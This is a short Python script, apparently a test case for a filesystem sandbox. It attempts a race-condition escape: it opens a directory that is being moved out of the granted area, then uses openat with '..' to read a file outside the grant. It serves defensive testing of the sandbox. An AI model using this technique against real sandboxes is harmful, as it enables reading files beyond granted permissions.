# SPDX-License-Identifier: Apache-2.0
# attack: a directory that somebody keeps moving out of the grant and back is opened and left by ..
# class: race
# wins: leak
# needs: race move
from kit import *

tried()
path = os.fsencode(BOX + '/race/mover')


def one(i):
    d = sc('openat', AT_FDCWD, path, os.O_RDONLY | os.O_DIRECTORY, 0)
    if d < 0:
        return False
    for _ in range(8):
        if took(sc('openat', d, b'../twin.txt', 0, 0)):
            return True
    os.close(d)


rounds(one)
